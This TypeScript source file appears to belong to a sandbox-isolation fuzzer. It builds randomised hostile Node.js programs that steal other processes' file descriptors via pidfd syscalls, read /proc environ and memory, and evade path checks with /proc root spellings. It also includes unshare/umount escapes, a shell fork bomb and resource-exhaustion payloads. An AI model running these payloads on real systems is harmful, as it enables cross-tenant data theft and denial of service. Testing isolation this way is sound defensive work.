import type { Attempt } from './search.ts';

/** What a hostile program knows of the machine: where everything of others is. */
export interface Targets {
  /** Files of others, and folders. */
  readonly paths: readonly string[];
  readonly pids: readonly number[];
  readonly ports: readonly number[];
  /** Path of a local socket of the server. */
  readonly socket: string;
  /** Name of an abstract socket of others. */
  readonly abstract: string;
  /** Workspaces and services: the attacker's and somebody else's. */
  readonly owners: Owned;
  readonly ids: Owned;
  /** A database of the attacker, where the machine has one. */
  readonly database?: string;
}

/** A pair of names. */
export interface Owned {
  readonly own: string;
  readonly other: string;
}

/**
 * What a trick needs: nothing, or a kernel that keeps the program from others and bounds what it
 * takes.
 */
type Scope = 'own' | 'others';

interface Trick {
  readonly scope: Scope;
  readonly write: (targets: Targets, attempt: Attempt) => string;
}

/** What programs begin with: `say` prints what was got, `wrote` says where something was changed. */
const HEAD = `
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as dgram from 'node:dgram';
import { spawnSync } from 'node:child_process';
const MAX = 65536;
const say = (got) => process.stdout.write(String(got).slice(0, MAX) + '\\n');
const list = (path) => { try { return fs.readdirSync(path); } catch { return []; } };
const isFile = (fd) => { try { return fs.fstatSync(fd).isFile(); } catch { return false; } };
const fds = () => list('/proc/self/fd').map(Number).filter((fd) => fd > 2 && isFile(fd));
const pids = () => list('/proc').filter((name) => /^\\d+$/.test(name));
const read = (path) => { try { if (!fs.statSync(path).isFIFO()) say(fs.readFileSync(path, 'latin1')); } catch {} };
const bytes = (fd, at, length) => {
  const into = Buffer.alloc(length);
  try { say(into.toString('latin1', 0, fs.readSync(fd, into, 0, length, at))); } catch {}
};
const overwrite = (fd, at, text) => { try { fs.writeSync(fd, text, at); } catch {} };
const shell = (...args) => {
  const done = spawnSync(args[0], args.slice(1), { timeout: 1000, maxBuffer: 1 << 20 });
  say(String(done.stdout));
};
const steal = (pid, most) => shell('/usr/bin/perl', '-e', 'my $fd = syscall(434, ' + pid + ', 0); '
  + 'for my $n (3..' + most + ') { my $own = syscall(438, $fd, $n, 0); next if $own < 0; '
  + 'open(my $h, "+<&=", $own) or next; next unless -f $h; sysread($h, my $b, 262144) and print $b; '
  + 'sysseek($h, 8192, 0); syswrite($h, "changed"); }');
const hear = (options) => new Promise((done) => {
  const socket = net.connect({ timeout: 200, ...options });
  const end = () => { socket.destroy(); done(); };
  socket.on('connect', () => socket.write('GET / HTTP/1.1\\r\\nHost: 127.0.0.1\\r\\nConnection: close\\r\\n\\r\\n'));
  socket.on('data', (got) => { say(got.toString('latin1')); end(); });
  for (const name of ['timeout', 'error', 'end']) socket.on(name, end);
});
`;
const HARM = 'changed-by-a-tenant';

/** Lines that a terminal, a reader of lines or a parser may stumble over. */
const LINES: readonly string[] = [
  ...['\u001b]0;owned\u0007\u001b[2J', '\u001b[31m', '\u0000', '\r', '\n', '\u2028', '\ud800'],
  ...['{"level":"fatal","message":"', '[[[[', 'x', ' \t', '%s%n', '</script><script>', '\u202e'],
];

/** Spellings of a path that lead around what looks at its beginning. */
const SPELLINGS: readonly ((path: string, pid: number) => string)[] = [
  (path) => path,
  (path) => `/proc/self/root${path}`,
  (path) => `/proc/1/root${path}`,
  (path, pid) => `/proc/${pid}/root${path}`,
  (path, pid) => `/proc/${pid}/cwd/../../../..${path}`,
  (path) => `/mnt/app/../..${path}`,
  (path) => `/dev/../${path}`,
  (path) => path.replaceAll('/', '//'),
  (path) => `/proc/thread-self/root${path}`,
];

const TRICKS: readonly Trick[] = [
  {
    scope: 'own',
    write: (_targets, { integer }) =>
      `for (const fd of fds()) for (let at = 0; at < ${integer(1, 8)}; at += 1) bytes(fd, at * ${integer(1, 30_000)}, MAX);`,
  },
  {
    scope: 'own',
    write: (_targets, { integer }) =>
      `for (const fd of fds()) overwrite(fd, ${integer(0, 200_000)}, '${HARM}');`,
  },
  {
    scope: 'own',
    write: (_targets, { integer }) =>
      `for (let fd = 3; fd < ${integer(10, 1_024)}; fd += 1) { bytes(fd, ${integer(0, 60_000)}, MAX); bytes(fd, null, 4096); }`,
  },
  {
    scope: 'own',
    write: (_targets, { pick }) =>
      `for (const fd of fds()) { read('${pick(['/proc/self/fd', '/dev/fd', '/proc/thread-self/fd'])}/' + fd); }`,
  },
  {
    scope: 'own',
    write: () =>
      `for (const fd of fds()) { try { const own = fs.openSync('/proc/self/fd/' + fd, 'r+'); bytes(own, 0, MAX); overwrite(own, 4096, '${HARM}'); } catch {} }`,
  },
  {
    scope: 'own',
    write: (_targets, { pick }) =>
      `for (const name of list('/proc/self/${pick(['fdinfo', 'map_files', 'task'])}')) say(name); read('/proc/self/${pick(['maps', 'environ', 'cmdline', 'mountinfo', 'auxv', 'stat'])}');`,
  },
  {
    scope: 'own',
    write: () =>
      `for (const fd of fds()) { const done = spawnSync('/bin/cat', [], { stdio: [fd, 'pipe', 'ignore'], timeout: 500, maxBuffer: MAX * 4 }); say(done.stdout); }`,
  },
  {
    scope: 'own',
    write: (_targets, { integer }) =>
      `shell('/usr/bin/perl', '-e', 'for my $fd (3..${integer(20, 400)}) { if (open(my $h, "+<&=", $fd)) { sysseek($h, 0, 0); my $b; sysread($h, $b, 65536); print $b; sysseek($h, 8192, 0); syswrite($h, "${HARM}"); } }');`,
  },
  { scope: 'own', write: () => 'say(JSON.stringify(process.env)); shell("/usr/bin/env");' },
  {
    scope: 'own',
    write: () =>
      "shell('/bin/sh', '-c', 'for fd in 3 4 5 6 7 8 9; do cat <&$fd; done 2>/dev/null');",
  },
  {
    scope: 'others',
    write: ({ paths, pids }, { pick }) =>
      `read(${text(pick(SPELLINGS)(pick(paths), pick(pids)))});`,
  },
  {
    scope: 'others',
    write: ({ paths, pids }, { pick }) =>
      `try { fs.appendFileSync(${text(pick(SPELLINGS)(pick(paths), pick(pids)))}, '${HARM}'); } catch {}`,
  },
  {
    scope: 'others',
    write: ({ paths }, { pick, hex }) =>
      `try { fs.${pick(['symlinkSync', 'linkSync'])}(${text(pick(paths))}, '/mnt/app/${hex(4)}'); } catch {} for (const name of list('/mnt/app')) read('/mnt/app/' + name);`,
  },
  {
    scope: 'others',
    write: ({ pids }, { pick }) =>
      `for (const pid of [...pids(), ${pids.join(', ')}]) read('/proc/' + pid + '/${pick(['environ', 'cmdline', 'maps', 'mem', 'auxv', 'stack', 'status'])}');`,
  },
  {
    scope: 'others',
    write: ({ pids }) =>
      `for (const pid of [...pids(), ${pids.join(', ')}]) if (pid != process.pid) for (const fd of list('/proc/' + pid + '/fd').slice(0, 200)) { try { if (fs.statSync('/proc/' + pid + '/fd/' + fd).isFile()) read('/proc/' + pid + '/fd/' + fd); } catch {} }`,
  },
  {
    scope: 'others',
    write: ({ pids }, { pick }) =>
      `try { process.kill(${pick(pids)}, '${pick(['SIGUSR2', 'SIGWINCH', 'SIGTERM'])}'); say('signalled'); } catch {}`,
  },
  {
    scope: 'others',
    write: ({ ports }, { pick }) =>
      `await hear({ host: '${pick(['127.0.0.1', '::1', '0.0.0.0', '127.1.2.3', '::ffff:127.0.0.1', 'localhost'])}', port: ${pick(ports)} });`,
  },
  { scope: 'others', write: ({ socket }) => `await hear({ path: ${text(socket)} });` },
  {
    scope: 'others',
    write: ({ ports }, { pick }) =>
      `try { const udp = dgram.createSocket('udp4'); udp.on('error', () => undefined); udp.send('x', ${pick(ports)}, '127.0.0.1', () => udp.close()); } catch {}`,
  },
  {
    scope: 'others',
    write: ({ paths }, { pick }) =>
      `shell('/bin/sh', '-c', ${text(`unshare -Urm sh -c 'umount -l ${pick(paths)} /mnt/app; ls -la ${pick(paths)}; cat ${pick(paths)}' 2>&1`)});`,
  },
  {
    scope: 'others',
    write: ({ paths }, { pick }) =>
      `for (const place of ['/tmp', '/var/tmp', '/dev/shm', '/run', '/run/lock', '/mnt']) for (const name of list(place).slice(0, 50)) read(place + '/' + name); for (const name of list(${text(pick(paths))})) say(name);`,
  },
  {
    scope: 'own',
    write: (_targets, { integer }) => `steal(process.ppid, ${integer(20, 120)});`,
  },
  {
    scope: 'others',
    write: ({ pids }, { pick, integer }) => `steal(${pick(pids)}, ${integer(20, 120)});`,
  },
  {
    scope: 'others',
    write: ({ abstract }) =>
      `shell('/usr/bin/perl', '-e', 'socket(S, 1, 1, 0); connect(S, pack("Sxa*", 1, "${abstract}")) and print "${abstract}"');`,
  },
];

/** What takes room, lines, processes and time. */
const BURDENS: readonly Trick[] = [
  {
    scope: 'own',
    write: (_targets, { integer, pick }) =>
      `process.stderr.write(${text(pick(LINES))}.repeat(${integer(1, 20_000)}) + '\\n');`,
  },
  {
    scope: 'own',
    write: (_targets, { integer }) =>
      `for (let at = 0; at < ${integer(1, 400)}; at += 1) console.error(Buffer.from([${integer(0, 255)}, at % 256, ${integer(0, 255)}]).toString('latin1'), at);`,
  },
  {
    scope: 'own',
    write: (_targets, { integer }) =>
      `const into = fs.openSync('sparse', 'w'); fs.ftruncateSync(into, ${integer(1, 2_000)} * 2 ** 30); fs.writeSync(into, 'x', ${integer(1, 1_000_000)}); fs.closeSync(into);`,
  },
  {
    scope: 'others',
    write: (_targets, { integer, hex }) =>
      `const top = process.cwd(); for (let at = 0; at < ${integer(10, 2_000)}; at += 1) { fs.mkdirSync('${hex(1)}', { recursive: true }); process.chdir('${hex(1)}'); } process.chdir(top);`,
  },
  {
    scope: 'others',
    write: (_targets, { integer, pick }) =>
      `for (let at = 0; at < ${integer(1, 40)}; at += 1) spawnSync('/bin/sh', ['-c', ${text(pick(['setsid sleep 1000 &', 'nohup sleep 1000 & disown', '(trap "" TERM HUP; sleep 1000) &']))}]);`,
  },
  {
    scope: 'others',
    write: () => `shell('/bin/sh', '-c', 'b() { b | b & sleep 1; }; b');`,
  },
  {
    scope: 'others',
    write: (_targets, { integer }) =>
      `const all = []; for (let at = 0; at < ${integer(2, 48)}; at += 1) all.push(Buffer.alloc(2 ** 26, 1));`,
  },
  {
    scope: 'others',
    write: () => `for (const name of list('.')) try { fs.chmodSync(name, 0); } catch {}`,
  },
];

/** A program of some tricks, the more the longer the search goes on. */
export function hostileProgram(targets: Targets, attempt: Attempt, scope: Scope): string {
  const { size, pick, round } = attempt;
  const known = [...TRICKS, ...BURDENS].filter(
    (trick) => scope === 'others' || trick.scope === 'own',
  );
  const first = known[round % known.length];
  const count = Math.ceil(size / 8);
  const tricks = [...(first ? [first] : []), ...Array.from({ length: count }, () => pick(known))];
  const steps = tricks.map((trick) => `try { ${trick.write(targets, attempt)} } catch {}`);
  return `${HEAD}${steps.join('\n')}\n`;
}

function text(word: string): string {
  return JSON.stringify(word);
}
